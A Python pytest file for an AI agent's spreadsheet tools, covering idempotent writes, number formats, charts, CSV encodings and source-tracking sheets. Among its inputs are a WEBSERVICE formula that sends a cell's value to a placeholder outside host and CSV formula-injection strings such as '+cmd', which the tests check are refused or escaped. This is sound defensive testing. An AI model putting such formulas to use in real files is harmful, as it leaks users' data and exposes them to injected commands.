"""Writing, charting and reading spreadsheets."""

import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import Font

from agents.tools.office import provenance_file, stale_places
from agents.tools.office.libreoffice import convert
from orchestrator.errors import ToolFailed
from tests.office_workspace import Desk

HEADER = ["Company", "Price (USD)", "Seats", "Per year"]
ROWS: list[list[Any]] = [
    ["Acme", {"value": 49, "finding": "f1", "format": "currency"}, 100, "=B2*C2*12"],
    ["Borealis", {"value": 39.5, "finding": ["f2"], "format": "currency"}, 1200, "=B3*C3*12"],
]


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


def opened(desk: Desk, path: str = "a.xlsx") -> Any:
    return openpyxl.load_workbook(io.BytesIO(desk.workspace.read(path)))


async def write(desk: Desk, cell: str, rows: list[list[Any]], **more: Any) -> str:
    return (await desk.call("sheet_write", path="a.xlsx", sheet="Prices", cell=cell, rows=rows, **more)).text


async def test_writing_the_same_block_again_leaves_the_file_as_it_is(desk: Desk) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    once, beside = desk.workspace.read("a.xlsx"), provenance_file.load(desk.workspace, "a.xlsx")
    await write(desk, "A1", [HEADER, *ROWS])
    assert desk.workspace.read("a.xlsx") == once
    assert provenance_file.load(desk.workspace, "a.xlsx") == beside


async def test_rows_that_stream_in_give_the_same_cells_as_one_block(desk: Desk, tmp_path: Path) -> None:
    whole = Desk(tmp_path / "whole")
    await write(whole, "A1", [HEADER, *ROWS])
    await write(desk, "A1", [HEADER])
    for n, row in enumerate(ROWS, 2):
        await write(desk, f"A{n}", [row])

    def cells(of: Desk) -> list[Any]:
        return [(c.coordinate, c.value, c.number_format, c.font.b) for row in opened(of)["Prices"] for c in row]

    assert cells(desk) == cells(whole)


async def test_the_first_row_is_a_header_that_stays_in_sight(desk: Desk) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    sheet = opened(desk)["Prices"]
    assert sheet["D1"].alignment.indent == sheet["D2"].alignment.indent == 1, "numbers keep off the last column's edge"
    assert sheet["A1"].font.b and sheet["A1"].fill.fgColor.rgb.endswith("1F4E5F")
    assert sheet.freeze_panes == "A2" and not sheet["A2"].font.b


async def test_one_column_shows_its_money_with_the_same_decimals(desk: Desk) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    sheet = opened(desk)["Prices"]
    assert sheet["B2"].number_format == sheet["B3"].number_format == "$#,##0.00"
    assert sheet["C3"].number_format == "#,##0"
    assert sheet["D2"].number_format == "$#,##0"


@pytest.mark.parametrize(
    ("typed", "value", "shape"),
    [
        ("12.5%", 0.125, "0.0%"),
        ("$1,200", 1200, "$#,##0"),
        ("€9.50", 9.5, '"€"#,##0.00'),
        ("1,200", "1,200", "General"),
        ("007", "007", "General"),
        ("+49 30 1234", "+49 30 1234", "General"),
        ("=", "=", "General"),
        ("#N/A", "#N/A", "General"),
    ],
)
async def test_typed_text_becomes_a_number_only_when_it_can_mean_nothing_else(
    desk: Desk, typed: str, value: Any, shape: str
) -> None:
    await write(desk, "A2", [[typed]])
    cell = opened(desk)["Prices"]["A2"]
    assert (cell.value, cell.number_format) == (value, shape)


async def test_an_iso_date_becomes_a_date(desk: Desk) -> None:
    await write(desk, "A2", [["2026-03-04"]])
    cell = opened(desk)["Prices"]["A2"]
    assert cell.is_date and cell.number_format == "yyyy-mm-dd"


async def test_young_functions_get_the_prefix_excel_wants(desk: Desk) -> None:
    await write(desk, "A2", [['=TEXTJOIN(", ",TRUE,B2:B3)&"TEXTJOIN("']])
    assert opened(desk)["Prices"]["A2"].value == '=_xlfn.TEXTJOIN(", ",TRUE,B2:B3)&"TEXTJOIN("'


@pytest.mark.parametrize("formula", ["=SUM(A1;A2)", "=SUM((A1)", '=WEBSERVICE("https://x.example/"&A1)', "=SUM(A1))"])
async def test_a_formula_that_excel_refuses_or_that_reaches_out_is_refused(desk: Desk, formula: str) -> None:
    with pytest.raises(ToolFailed, match="formula"):
        await write(desk, "A2", [[formula]])
    assert not desk.workspace.exists("a.xlsx")


async def test_an_unknown_finding_is_named_and_nothing_is_written(desk: Desk) -> None:
    with pytest.raises(ToolFailed, match=r"'f99'\. Call read_findings"):
        await write(desk, "A2", [[{"value": 1, "finding": "f99"}]])
    assert not desk.workspace.exists("a.xlsx")


async def test_the_sources_sheet_is_last_and_links_both_ways(desk: Desk) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    await desk.call("sheet_write", path="a.xlsx", sheet="Notes", cell="A1", rows=[["Note"]])
    book = opened(desk)
    assert book.sheetnames == ["Prices", "Notes", "Sources"]
    first = [c.value for c in book["Sources"][2]]
    assert first == [
        "f1",
        "price",
        49,
        "https://acme.example/pricing",
        "Pricing table",
        "Team: $49",
        "2026-03-04 09:30",
        "Prices!B2",
    ]
    assert book["Sources"]["D2"].hyperlink.target == "https://acme.example/pricing"
    assert book["Sources"]["H2"].hyperlink.location == "'Prices'!B2"
    assert "Team: $49" in book["Prices"]["B2"].comment.text


async def test_a_cell_written_without_a_finding_loses_its_source(desk: Desk) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    await write(desk, "B2", [[50]])
    sidecar = provenance_file.load(desk.workspace, "a.xlsx")
    assert [p.place for p in sidecar.places] == ["Prices!B3"]
    assert [f.id for f in sidecar.findings] == ["f2"]
    assert opened(desk)["Prices"]["B2"].comment is None
    assert [c.value for c in opened(desk)["Sources"]["A"]] == ["Id", "f2"]


async def test_stale_places_are_those_that_rest_on_a_superseded_finding(desk: Desk) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    sidecar = provenance_file.load(desk.workspace, "a.xlsx")
    assert [p.place for p in stale_places(sidecar, {"f2"})] == ["Prices!B3"]
    assert stale_places(sidecar, set()) == ()


async def test_every_place_that_rests_on_a_finding_is_listed_over_all_files(desk: Desk) -> None:
    assert "No file" in (await desk.call("uses_of_findings", findings=["f1"])).text
    await write(desk, "A1", [HEADER, *ROWS])
    paragraph = {"type": "paragraph", "text": "It costs $49.", "findings": ["f1"]}
    await desk.call("document_write", path="b/note.docx", title="Note", blocks=[paragraph])
    uses = (await desk.call("uses_of_findings", findings=["f1", "f9"])).text
    assert "- a.xlsx, Prices!B2: shows 49, uses f1" in uses
    assert "- b/note.docx, paragraph 1: shows 'It costs $49.', uses f1" in uses
    assert "B3" not in uses
    (desk.folder / "b/note.docx").unlink()
    assert "note.docx" not in (await desk.call("uses_of_findings", findings=["f1"])).text


async def test_the_sheet_that_writes_itself_cannot_be_written(desk: Desk) -> None:
    with pytest.raises(ToolFailed, match="is generated"):
        await desk.call("sheet_write", path="a.xlsx", sheet="Sources", cell="A1", rows=[["x"]])


async def test_a_persons_workbook_keeps_its_formulas_and_styles(desk: Desk) -> None:
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.title = "Prices"
    sheet["A1"], sheet["A2"], sheet["B2"], sheet["B3"] = "Mine", 3, "=A2*2", 7
    sheet["A2"].font, sheet["A2"].number_format = Font(name="Arial", italic=True), "0.000"
    sheet.column_dimensions["A"].width = 33
    out = io.BytesIO()
    book.save(out)
    desk.workspace.write("a.xlsx", out.getvalue())
    await write(desk, "A3", [[4]])
    after = opened(desk)["Prices"]
    assert (after["A1"].value, after["B2"].value, after["B3"].value) == ("Mine", "=A2*2", 7)
    assert not after["A1"].font.b and after.column_dimensions["A"].width == 33
    assert after["A3"].font.i and after["A3"].number_format == "0.000"


async def test_a_chart_of_the_same_title_is_replaced_and_survives_further_writing(desk: Desk) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    chart = {
        "path": "a.xlsx",
        "sheet": "Prices",
        "title": "Price",
        "categories": "A2:A3",
        "values": ["B2:B3"],
        "at": "G2",
    }
    await desk.call("sheet_chart", kind="bar", **chart)
    once = desk.folder.joinpath("a.xlsx").stat().st_mtime_ns
    await desk.call("sheet_chart", kind="bar", **chart)
    assert desk.folder.joinpath("a.xlsx").stat().st_mtime_ns == once, "it was written again"
    await write(desk, "A4", [["Cobalt", 59, 10, "=B4*C4*12"]])
    charts = opened(desk)["Prices"]._charts
    assert len(charts) == 1 and charts[0].series[0].tx.strRef.f == "'Prices'!$B$1"


async def test_charts_cover_neither_data_nor_each_other(desk: Desk) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    chart = {"path": "a.xlsx", "sheet": "Prices", "kind": "column", "categories": "A2:A3", "values": ["C2:C3"]}
    first = (await desk.call("sheet_chart", title="One", at="B2", **chart)).text
    second = (await desk.call("sheet_chart", title="Two", at="F3", **chart)).text
    assert "at F2 (B2 was taken" in first and "at F3" not in second


@pytest.mark.parametrize(
    ("values", "words"), [([], "range of values"), (["B2:C3"], "more than one column"), (["B"], "isn't a range")]
)
async def test_a_chart_without_a_proper_range_says_what_to_give(desk: Desk, values: list[str], words: str) -> None:
    await write(desk, "A1", [HEADER, *ROWS])
    with pytest.raises(ToolFailed, match=words):
        await desk.call(
            "sheet_chart",
            path="a.xlsx",
            sheet="Prices",
            kind="bar",
            title="T",
            categories="A2:A3",
            values=values,
            at="G2",
        )


async def test_reading_shows_addresses_and_formulas(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(convert, "soffice", lambda: None)
    await write(desk, "A1", [HEADER, *ROWS])
    text = (await desk.call("sheet_read", path="a.xlsx", range="B2:D3")).text
    assert "| B | C | D" in text and "=B3*C3*12" in text and "Company" not in text


@pytest.mark.parametrize(
    "content", ["Größe;Preis\nA;1,5\n".encode("cp1252"), "Größe\tPreis\nA\t1,5\n".encode("utf-16")]
)
async def test_a_csv_is_read_whatever_its_separator_and_encoding(desk: Desk, content: bytes) -> None:
    desk.workspace.write("a.csv", content)
    text = (await desk.call("sheet_read", path="a.csv")).text
    assert "1| Größe | Preis" in text and "2| A | 1,5" in text


async def test_a_csv_of_two_encodings_is_read_line_by_line_and_said(desk: Desk) -> None:
    desk.workspace.write("a.csv", b"name;price\nM\xfcller;1\nCaf\xc3\xa9;3\n")
    text = (await desk.call("sheet_read", path="a.csv")).text
    assert "Müller" in text and "Café" in text and "mixed encodings: UTF-8, but Windows-1252 in 1 line (2)" in text


async def test_a_csv_runs_nothing_and_keeps_its_numbers(desk: Desk) -> None:
    await desk.call(
        "csv_write", path="a.csv", rows=[["=1+1", "+cmd", "-3.5", -2, "@x", "fine", "+1,000"], [None, True]]
    )
    lines = desk.workspace.read("a.csv").decode().splitlines()
    assert lines == ["'=1+1,'+cmd,-3.5,-2,'@x,fine,\"+1,000\"", ",True"]


async def test_something_that_is_no_workbook_is_refused_in_words(desk: Desk) -> None:
    desk.workspace.write("a.xlsx", b"<html>not a workbook</html>")
    with pytest.raises(ToolFailed, match=r"'a\.xlsx' is damaged"):
        await write(desk, "A1", [["x"]])
